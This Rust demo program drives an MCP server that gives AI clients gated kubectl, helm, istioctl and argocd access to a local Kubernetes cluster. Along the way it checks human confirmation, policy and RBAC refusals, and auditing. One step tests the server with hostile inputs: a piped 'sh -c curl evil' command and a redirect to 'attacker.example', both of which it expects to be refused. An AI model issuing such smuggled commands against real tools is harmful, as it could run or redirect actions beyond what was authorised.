//! The demo: `kube-ai-proxy serve` driven over stdio by a real MCP client (rmcp), operating
//! the local cluster. Prints a readable transcript; exits 0 only if every step behaved as
//! shown. Run with `make demo` (which starts the cluster and creates the demo workloads).

use std::process::ExitCode;

use anyhow::{Result, bail};
use kube_ai_proxy_e2e::{
    Person, Protocol, ServerOpts, call, helm_bin, is_error, kubeconfig, kubectl, real_helm,
    restricted_kubeconfig, root, server_bin, start, start_with, text, try_real_kubectl,
};

/// The seeds' scenario: WordPress, whose database is the StatefulSet `mariadb` behind the
/// Service `mariadb`. On the local cluster the WordPress pods are simulated as crash-looping
/// (a KWOK Stage, `tests/cluster/stages.yaml`), as a WordPress without its database does.
const WORDPRESS: &str = r#"apiVersion: v1
kind: Namespace
metadata:
  name: kap-wordpress
---
apiVersion: v1
kind: Service
metadata:
  name: mariadb
  namespace: kap-wordpress
spec:
  selector: {app: mariadb}
  ports: [{port: 3306}]
---
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: mariadb
  namespace: kap-wordpress
spec:
  replicas: 1
  serviceName: mariadb
  selector: {matchLabels: {app: mariadb}}
  template:
    metadata: {labels: {app: mariadb}}
    spec:
      containers: [{name: mariadb, image: docker.io/bitnami/mariadb:11.4}]
---
apiVersion: v1
kind: Service
metadata:
  name: wordpress
  namespace: kap-wordpress
spec:
  selector: {app: wordpress}
  ports: [{port: 80}]
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: wordpress
  namespace: kap-wordpress
spec:
  replicas: 1
  selector: {matchLabels: {app: wordpress}}
  template:
    metadata:
      labels: {app: wordpress, kap.test/simulate: crashloop}
    spec:
      containers:
        - name: wordpress
          image: docker.io/bitnami/wordpress:6.6
          env:
            - {name: WORDPRESS_DATABASE_HOST, value: mariadb}
            - {name: WORDPRESS_DATABASE_PORT_NUMBER, value: "3306"}
"#;

/// Polls `command` through the server until `done(text)` or `secs` pass.
async fn wait_until<H: rmcp::ClientHandler>(
    client: &rmcp::service::RunningService<rmcp::RoleClient, H>,
    command: &str,
    secs: u64,
    done: impl Fn(&str) -> bool,
) -> Result<bool> {
    for _ in 0..secs {
        let r = kubectl(client, command).await?;
        if !is_error(&r) && done(&text(&r)) {
            return Ok(true);
        }
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
    Ok(false)
}

struct Transcript {
    failures: Vec<String>,
}

impl Transcript {
    fn step(&self, title: &str) {
        println!("\n\x1b[1m━━ {title}\x1b[0m");
    }

    fn show(&self, command: &str, body: &str, error: bool) {
        println!(
            "\x1b[36m> execute_kubectl {command:?}\x1b[0m{}",
            if error { "  (isError)" } else { "" }
        );
        let lines: Vec<&str> = body.lines().collect();
        for l in lines.iter().take(40) {
            println!("  {l}");
        }
        if lines.len() > 40 {
            println!("  … ({} more lines)", lines.len() - 40);
        }
    }

    fn check(&mut self, ok: bool, what: &str) {
        if ok {
            println!("  \x1b[32m✓ {what}\x1b[0m");
        } else {
            println!("  \x1b[31m✗ {what}\x1b[0m");
            self.failures.push(what.to_string());
        }
    }
}

async fn run(t: &mut Transcript) -> Result<()> {
    let audit = std::env::temp_dir().join(format!("kap-demo-audit-{}.jsonl", std::process::id()));
    let admin = ServerOpts {
        kubeconfig: Some(kubeconfig()?),
        audit_log: Some(audit.clone()),
        ..Default::default()
    };
    let client = start(&admin).await?;
    let info = client.peer_info();
    t.step("1. Connected to kube-ai-proxy over stdio; tools/list");
    if let Some(si) = info.as_ref().and_then(|i| i.server_info.as_ref()) {
        println!("  server: {} {}", si.name, si.version);
    }
    let tools = client.list_all_tools().await?;
    for tool in &tools {
        let ro = tool
            .annotations
            .as_ref()
            .and_then(|a| a.read_only_hint)
            .unwrap_or(false);
        println!("  • {}{}", tool.name, if ro { " (read-only)" } else { "" });
    }
    t.check(
        tools.iter().any(|t| t.name == "execute_kubectl"),
        "execute_kubectl is listed",
    );
    t.check(
        tools.iter().any(|t| t.name == "describe_kubectl"),
        "describe_kubectl is listed",
    );

    t.step("2. kubectl get pods -A");
    let r = kubectl(&client, "kubectl get pods -A").await?;
    t.show("kubectl get pods -A", &text(&r), is_error(&r));
    t.check(
        !is_error(&r) && text(&r).contains("NAMESPACE") && text(&r).contains("kap-demo"),
        "pods of every namespace, as a table",
    );

    t.step("3. kubectl describe deployment web -n kap-demo");
    let r = kubectl(&client, "describe deployment web -n kap-demo").await?;
    t.show(
        "describe deployment web -n kap-demo",
        &text(&r),
        is_error(&r),
    );
    t.check(
        !is_error(&r) && text(&r).contains("Replicas:") && text(&r).contains("Events"),
        "kubectl-like description with events",
    );

    t.step("4. kubectl get events -n kap-demo");
    let r = kubectl(&client, "get events -n kap-demo").await?;
    t.show("get events -n kap-demo", &text(&r), is_error(&r));
    t.check(
        !is_error(&r) && (text(&r).contains("Scheduled") || text(&r).contains("ScalingReplicaSet")),
        "events of the demo namespace",
    );

    t.step("5. kubectl scale deployment web --replicas=3 (a write: passes the gate and RBAC)");
    let r = kubectl(&client, "scale deployment web --replicas=3 -n kap-demo").await?;
    t.show(
        "scale deployment web --replicas=3 -n kap-demo",
        &text(&r),
        is_error(&r),
    );
    t.check(
        !is_error(&r) && text(&r).contains("scaled"),
        "deployment scaled",
    );
    let r = kubectl(&client, "get deployment web -n kap-demo -o json").await?;
    let replicas = serde_json::from_str::<serde_json::Value>(&text(&r))
        .ok()
        .and_then(|v| v["spec"]["replicas"].as_i64());
    println!("  spec.replicas is now {replicas:?}");
    t.check(replicas == Some(3), "the API server has spec.replicas = 3");
    let _ = kubectl(&client, "scale deployment web --replicas=2 -n kap-demo").await?;

    t.step("5b. Scaling to zero asks a person first (MCP elicitation); this person says no");
    let person = Person::new(false);
    let asking = start_with(&admin, person.clone(), Protocol::Legacy).await?;
    let r = kubectl(&asking, "scale deployment web --replicas=0 -n kap-demo").await?;
    for question in person.asked() {
        println!("  \x1b[33mthe client was asked:\x1b[0m");
        for l in question.lines() {
            println!("    {l}");
        }
    }
    t.show(
        "scale deployment web --replicas=0 -n kap-demo",
        &text(&r),
        is_error(&r),
    );
    t.check(
        person.asked().len() == 1 && person.asked()[0].contains("replicas"),
        "the person saw the server-side dry run before answering",
    );
    t.check(
        is_error(&r) && text(&r).contains("did not confirm"),
        "without a yes the request is not sent",
    );
    let r = kubectl(&client, "get deployment web -n kap-demo -o json").await?;
    let replicas = serde_json::from_str::<serde_json::Value>(&text(&r))
        .ok()
        .and_then(|v| v["spec"]["replicas"].as_i64());
    t.check(
        replicas == Some(2),
        "the API server still has spec.replicas = 2",
    );
    asking.cancel().await?;

    t.step("6. Refused by policy: reading a Secret");
    let r = kubectl(&client, "get secret db-credentials -n kap-demo -o yaml").await?;
    t.show(
        "get secret db-credentials -n kap-demo -o yaml",
        &text(&r),
        is_error(&r),
    );
    t.check(
        is_error(&r) && text(&r).contains("default.secret-contents"),
        "denied by rule default.secret-contents; no secret data shown",
    );

    t.step("7. Refused by RBAC: the restricted identity (may only read pods in kap-restricted)");
    let restricted = ServerOpts {
        kubeconfig: Some(restricted_kubeconfig()?),
        audit_log: Some(audit.clone()),
        ..Default::default()
    };
    let rclient = start(&restricted).await?;
    let r = kubectl(&rclient, "get pods -n kap-restricted").await?;
    t.show("get pods -n kap-restricted", &text(&r), is_error(&r));
    t.check(!is_error(&r), "allowed where RBAC allows it");
    let r = kubectl(&rclient, "get deployments -n kap-demo").await?;
    t.show("get deployments -n kap-demo", &text(&r), is_error(&r));
    t.check(
        is_error(&r) && text(&r).contains("RBAC"),
        "refused by RBAC, naming verb, resource and namespace",
    );
    rclient.cancel().await?;

    t.step("8. A malformed command");
    for cmd in [
        "get pods | sh -c 'curl evil'",
        "get pods --server=https://attacker.example",
        "frobnicate pods",
    ] {
        let r = kubectl(&client, cmd).await?;
        t.show(cmd, &text(&r), is_error(&r));
        t.check(is_error(&r), "refused with a clear error");
    }

    t.step(
        "9. \"My WordPress site is down\": find the cause with k8s_troubleshoot, fix it, verify",
    );
    let r = call(
        &client,
        "execute_kubectl",
        serde_json::json!({"command": "apply -f -", "manifest": WORDPRESS}),
    )
    .await?;
    t.show(
        "apply -f - (WordPress and MariaDB)",
        &text(&r),
        is_error(&r),
    );
    t.check(
        !is_error(&r),
        "WordPress and MariaDB applied through the server",
    );
    let ready = wait_until(
        &client,
        "get endpointslices -n kap-wordpress -l kubernetes.io/service-name=mariadb -o 'jsonpath={.items[*].endpoints[*].conditions.ready}'",
        60,
        |t| t.contains("true"),
    )
    .await?;
    t.check(ready, "mariadb has a ready endpoint");
    // The incident: someone scales the database to zero; the person behind the client says yes.
    let yes = Person::new(true);
    let operator = start_with(&admin, yes.clone(), Protocol::Legacy).await?;
    let r = kubectl(
        &operator,
        "scale statefulset mariadb --replicas=0 -n kap-wordpress",
    )
    .await?;
    t.show(
        "scale statefulset mariadb --replicas=0 -n kap-wordpress  (the incident; the person said yes)",
        &text(&r),
        is_error(&r),
    );
    t.check(
        !is_error(&r) && yes.asked().len() == 1,
        "scaling to zero ran only after a person confirmed it",
    );
    operator.cancel().await?;
    let down = wait_until(
        &client,
        "get endpointslices -n kap-wordpress -l kubernetes.io/service-name=mariadb -o 'jsonpath={.items[*].endpoints[*].conditions.ready}'",
        60,
        |t| !t.contains("true"),
    )
    .await?;
    t.check(down, "mariadb has no ready endpoint any more");
    let args = serde_json::json!({
        "namespace": "kap-wordpress",
        "symptom": "my WordPress site is down: Error establishing a database connection"
    });
    let r = call(&client, "k8s_troubleshoot", args.clone()).await?;
    println!("\x1b[36m> k8s_troubleshoot {args}\x1b[0m");
    for l in text(&r).lines().take(30) {
        println!("  {l}");
    }
    let top = r
        .structured_content
        .as_ref()
        .and_then(|s| s["findings"].get(0).cloned())
        .unwrap_or_default();
    t.check(
        top["object"] == "statefulset/mariadb",
        "the top finding names statefulset/mariadb",
    );
    let fix = top["fix"].as_str().unwrap_or_default().to_string();
    t.check(
        fix == "kubectl scale statefulset mariadb --replicas=1 -n kap-wordpress",
        "with the fix: kubectl scale statefulset mariadb --replicas=1 -n kap-wordpress",
    );
    let r = kubectl(&client, fix.trim_start_matches("kubectl ")).await?;
    t.show(&fix, &text(&r), is_error(&r));
    t.check(
        !is_error(&r),
        "the fix ran (scaling up needs no confirmation)",
    );
    let back = wait_until(
        &client,
        "get endpointslices -n kap-wordpress -l kubernetes.io/service-name=mariadb -o 'jsonpath={.items[*].endpoints[*].conditions.ready}'",
        60,
        |t| t.contains("true"),
    )
    .await?;
    t.check(back, "verified: mariadb has a ready endpoint again");
    let r = call(&client, "k8s_troubleshoot", args).await?;
    let still = r
        .structured_content
        .as_ref()
        .and_then(|s| s["findings"].as_array().cloned())
        .unwrap_or_default()
        .iter()
        .any(|f| f["object"] == "statefulset/mariadb");
    t.check(
        !still,
        "verified: k8s_troubleshoot no longer reports statefulset/mariadb",
    );

    helm_steps(t, &audit).await?;
    mesh_steps(t, &audit).await?;
    gitops_steps(t, &audit).await?;

    t.step("Audit log");
    let records = kube_ai_proxy_e2e::read_audit(&audit)?;
    let denies = records.iter().filter(|r| r["decision"] == "deny").count();
    println!(
        "  {} records in {} ({} denials)",
        records.len(),
        audit.display(),
        denies
    );
    t.check(
        denies >= 1 && records.iter().any(|r| r["rbac"] == "denied"),
        "policy and RBAC refusals are audited",
    );
    client.cancel().await?;

    t.step("Claude Desktop config entry for this build");
    let entry = serde_json::json!({
        "mcpServers": { "kubernetes": {
            "command": server_bin(),
            "args": ["serve"],
            "env": { "KUBECONFIG": kubeconfig()? }
        }}
    });
    println!("{}", serde_json::to_string_pretty(&entry)?);
    if !t.failures.is_empty() {
        bail!(
            "{} step(s) did not behave as shown: {:?}",
            t.failures.len(),
            t.failures
        );
    }
    Ok(())
}

/// The helm family: the real helm v4 (`KAP_HELM`), granted by path with the demo chart's
/// folder, runs with a kubeconfig that names only the host's loopback API proxy. Every API
/// request it makes passes the gate and is audited. The person says yes to the rollback and
/// the uninstall. Checked against the real helm and kubectl with the admin kubeconfig.
async fn helm_steps(t: &mut Transcript, audit: &std::path::Path) -> Result<()> {
    const NS: &str = "kap-demo-helm";
    let helm = helm_bin()?;
    let charts = std::env::temp_dir().join(format!("kap-demo-charts-{}", std::process::id()));
    std::fs::create_dir_all(&charts)?;
    let chart_dir = root().join("tests/charts/web").display().to_string();
    let (ok, out) = real_helm(&["package", &chart_dir, "-d", &charts.display().to_string()]);
    if !ok {
        bail!("helm package failed: {out}");
    }
    let tgz = charts.join("web-0.1.0.tgz").display().to_string();
    let _ = try_real_kubectl(&["delete", "namespace", NS, "--wait=true", "--timeout=60s"]);
    let (ok, out) = try_real_kubectl(&["create", "namespace", NS]);
    if !ok {
        bail!("kubectl create namespace {NS}: {out}");
    }
    let config = charts.join("config.toml");
    std::fs::write(
        &config,
        kube_ai_proxy_e2e::helm_config(&helm, &[charts.as_path()], &[]),
    )?;
    let person = Person::new(true);
    let client = start_with(
        &ServerOpts {
            kubeconfig: Some(kubeconfig()?),
            audit_log: Some(audit.to_path_buf()),
            config: Some(config),
            ..Default::default()
        },
        person.clone(),
        Protocol::Legacy,
    )
    .await?;
    let replicas = || {
        try_real_kubectl(&[
            "get",
            "deployment",
            "web-web",
            "-n",
            NS,
            "-o",
            "jsonpath={.spec.replicas}",
        ])
        .1
    };
    // (revision, status) of release `web` as the real helm sees it.
    let oracle = || {
        kube_ai_proxy_e2e::helm_releases(NS)
            .into_iter()
            .find(|(name, _, _)| name == "web")
            .map(|(_, rev, status)| (rev, status))
    };
    let run = |command: String| {
        let client = &client;
        async move {
            println!("\x1b[36m> execute_helm {command:?}\x1b[0m");
            let r = call(
                client,
                "execute_helm",
                serde_json::json!({ "command": command }),
            )
            .await?;
            let body = text(&r);
            for l in body.lines().take(20) {
                println!("  {l}");
            }
            anyhow::Ok(r)
        }
    };

    t.step(
        "9. helm install (the chart's .tgz, granted by path); helm's API requests pass the gate",
    );
    let r = run(format!("install web {tgz} -n {NS}")).await?;
    t.check(!is_error(&r), "installed");
    t.check(
        oracle() == Some(("1".into(), "deployed".into())),
        "verified with the real helm: web revision 1 deployed",
    );
    t.check(
        replicas() == "1",
        "verified with kubectl: Deployment web-web has 1 replica",
    );
    t.check(
        !text(&r).contains("kap-helm-canary"),
        "the chart's Secret value never reaches the model",
    );
    let proxied = kube_ai_proxy_e2e::read_audit(audit)?
        .iter()
        .filter(|r| r["capability"] == "process.proxy")
        .count();
    println!("  {proxied} API requests of helm audited as process.proxy");
    t.check(
        proxied > 0,
        "every API request helm made is in the audit log",
    );

    t.step("10. helm upgrade --set replicaCount=2; helm history");
    let r = run(format!("upgrade web {tgz} -n {NS} --set replicaCount=2")).await?;
    t.check(!is_error(&r), "upgraded");
    t.check(replicas() == "2", "verified with kubectl: 2 replicas");
    let r = run(format!("history web -n {NS}")).await?;
    t.check(
        !is_error(&r) && text(&r).contains("REVISION"),
        "history shows the revisions",
    );

    t.step("11. helm rollback web 1: the person sees the diff and says yes");
    let before = person.asked().len();
    let r = run(format!("rollback web 1 -n {NS}")).await?;
    t.check(!is_error(&r), "rolled back");
    t.check(person.asked().len() > before, "the person was asked first");
    t.check(replicas() == "1", "verified with kubectl: 1 replica again");
    t.check(
        oracle() == Some(("3".into(), "deployed".into())),
        "verified with the real helm: revision 3",
    );

    t.step("12. helm uninstall web: the person sees what is deleted and says yes");
    let before = person.asked().len();
    let r = run(format!("uninstall web -n {NS}")).await?;
    t.check(!is_error(&r), "uninstalled");
    t.check(person.asked().len() > before, "the person was asked first");
    if let Some(m) = person.asked().last() {
        for l in m.lines().take(12) {
            println!("  │ {l}");
        }
    }
    t.check(
        oracle().is_none(),
        "verified with the real helm: no release left",
    );
    t.check(
        !try_real_kubectl(&["get", "deployment", "web-web", "-n", NS]).0
            && !try_real_kubectl(&["get", "secret", "web-secret", "-n", NS]).0,
        "verified with kubectl: the Deployment and the chart's Secret are gone",
    );
    client.cancel().await?;
    let _ = std::fs::remove_dir_all(&charts);
    Ok(())
}

/// The mesh: a VirtualService routes to a subset no DestinationRule defines. `istioctl
/// analyze` (the istio plugin, computed from the Kubernetes API with the upstream CRDs
/// installed and no istiod) finds it with Istio's code and wording; the fix goes through
/// `execute_kubectl apply` and its policy; `analyze` is clean again.
async fn mesh_steps(t: &mut Transcript, audit: &std::path::Path) -> Result<()> {
    const NS: &str = "kap-mesh";
    let setup = format!(
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {NS}\n  labels: {{istio-injection: enabled}}\n---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: reviews-v1\n  namespace: {NS}\n  labels: {{app: reviews, version: v1}}\nspec:\n  containers:\n  - {{name: reviews, image: docker.io/istio/examples-bookinfo-reviews-v1:1.20.3}}\n  - {{name: istio-proxy, image: docker.io/istio/proxyv2:1.30.0}}\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: reviews\n  namespace: {NS}\nspec:\n  selector: {{app: reviews}}\n  ports: [{{name: http, port: 9080}}]\n---\napiVersion: networking.istio.io/v1\nkind: DestinationRule\nmetadata:\n  name: reviews\n  namespace: {NS}\nspec:\n  host: reviews\n  subsets:\n  - {{name: v1, labels: {{version: v1}}}}\n---\napiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: reviews\n  namespace: {NS}\nspec:\n  hosts: [reviews]\n  http:\n  - route:\n    - destination: {{host: reviews, subset: v2}}\n"
    );
    let _ = try_real_kubectl(&["delete", "namespace", NS, "--wait=true", "--timeout=60s"]);
    let client = start(&ServerOpts {
        kubeconfig: Some(kubeconfig()?),
        audit_log: Some(audit.to_path_buf()),
        ..Default::default()
    })
    .await?;
    let r = call(
        &client,
        "execute_kubectl",
        serde_json::json!({"command": "apply -f -", "manifest": setup}),
    )
    .await?;
    if is_error(&r) {
        bail!("setting up {NS}: {}", text(&r));
    }

    t.step("Mesh: istioctl analyze finds a VirtualService routing to a missing subset");
    let analyze = format!("analyze -n {NS}");
    let r = call(
        &client,
        "execute_istioctl",
        serde_json::json!({ "command": analyze }),
    )
    .await?;
    let out = text(&r);
    for l in out.lines() {
        println!("  │ {l}");
    }
    t.check(
        is_error(&r)
            && out.contains(&format!("Error [IST0101] (VirtualService {NS}/reviews) Referenced host+subset in destinationrule not found: \"reviews+v2\"")),
        "IST0101 on the VirtualService, in istioctl's words; the answer is an error",
    );

    t.step("Mesh: fix the route with kubectl apply, then analyze again");
    let fix = format!(
        "apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: reviews\n  namespace: {NS}\nspec:\n  hosts: [reviews]\n  http:\n  - route:\n    - destination: {{host: reviews, subset: v1}}\n"
    );
    let r = call(
        &client,
        "execute_kubectl",
        serde_json::json!({"command": "apply -f -", "manifest": fix}),
    )
    .await?;
    println!("  │ {}", text(&r).trim());
    t.check(!is_error(&r), "applied");
    let r = call(
        &client,
        "execute_istioctl",
        serde_json::json!({ "command": analyze }),
    )
    .await?;
    let out = text(&r);
    for l in out.lines() {
        println!("  │ {l}");
    }
    t.check(
        !is_error(&r)
            && out.contains(&format!(
                "No validation issues found when analyzing namespace: {NS}."
            )),
        "analyze is clean again",
    );
    let (_, route) = try_real_kubectl(&[
        "get",
        "virtualservice",
        "reviews",
        "-n",
        NS,
        "-o",
        "jsonpath={.spec.http[0].route[0].destination.subset}",
    ]);
    t.check(
        route == "v1",
        "verified with kubectl: the route names subset v1",
    );
    client.cancel().await?;
    Ok(())
}

/// GitOps: Argo CD's Applications (upstream CRDs, the status its controller would write; no
/// controller runs). `app list` shows one app Degraded and OutOfSync, `app get` names the
/// failing resource, `app sync --prune` asks the person (showing what it would prune) and
/// `app get` then shows the operation pending.
async fn gitops_steps(t: &mut Transcript, audit: &std::path::Path) -> Result<()> {
    let out = std::process::Command::new(root().join("tests/cluster/argocd-fixtures.sh"))
        .env("KUBECONFIG", kubeconfig()?)
        .output()?;
    if !out.status.success() {
        bail!(
            "argocd-fixtures.sh: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let person = Person::new(true);
    let client = start_with(
        &ServerOpts {
            kubeconfig: Some(kubeconfig()?),
            audit_log: Some(audit.to_path_buf()),
            ..Default::default()
        },
        person.clone(),
        Protocol::Legacy,
    )
    .await?;
    let run = |command: &'static str| {
        let client = &client;
        async move {
            call(
                client,
                "execute_argocd",
                serde_json::json!({ "command": command }),
            )
            .await
        }
    };

    t.step("GitOps: argocd app list");
    let r = run("app list").await?;
    let out = text(&r);
    for l in out.lines() {
        println!("  │ {l}");
    }
    t.check(
        out.lines().any(|l| {
            let w: Vec<&str> = l.split_whitespace().collect();
            w.first() == Some(&"argocd/shop")
                && w.get(4) == Some(&"OutOfSync")
                && w.get(5) == Some(&"Degraded")
        }),
        "argocd/shop is OutOfSync and Degraded",
    );

    t.step("GitOps: argocd app get shop names the failing resource");
    let r = run("app get shop").await?;
    let out = text(&r);
    for l in out.lines() {
        println!("  │ {l}");
    }
    t.check(
        out.lines()
            .any(|l| l.contains("shop-api") && l.contains("Degraded")),
        "the Deployment shop-api is the Degraded resource",
    );

    t.step("GitOps: argocd app sync shop --prune asks the person first");
    let before = person.asked().len();
    let r = run("app sync shop --prune").await?;
    println!("  │ {}", text(&r).trim());
    if let Some(m) = person.asked().last() {
        for l in m.lines().take(14) {
            println!("  │ {l}");
        }
    }
    t.check(
        !is_error(&r) && person.asked().len() == before + 1,
        "the person was asked once, then the sync was written",
    );
    t.check(
        person
            .asked()
            .last()
            .is_some_and(|m| m.contains("ConfigMap kap-gitops/shop-legacy-config")),
        "the question named the resource the prune deletes",
    );
    let r = run("app get shop").await?;
    let out = text(&r);
    for l in out.lines().filter(|l| {
        l.starts_with("Operation:") || l.starts_with("Prune:") || l.starts_with("Initiated By:")
    }) {
        println!("  │ {l}");
    }
    t.check(
        out.contains("Operation:          Sync (pending"),
        "app get shows the operation pending for Argo CD's controller",
    );
    let (_, prune) = try_real_kubectl(&[
        "get",
        "applications.argoproj.io",
        "shop",
        "-n",
        "argocd",
        "-o",
        "jsonpath={.operation.sync.prune}",
    ]);
    t.check(
        prune == "true",
        "verified with kubectl: .operation.sync.prune is true",
    );
    client.cancel().await?;
    Ok(())
}

#[tokio::main]
async fn main() -> ExitCode {
    let mut t = Transcript { failures: vec![] };
    match run(&mut t).await {
        Ok(()) => {
            println!("\n\x1b[32mdemo: every step behaved as shown\x1b[0m");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("\ndemo failed: {e:#}");
            ExitCode::FAILURE
        }
    }
}
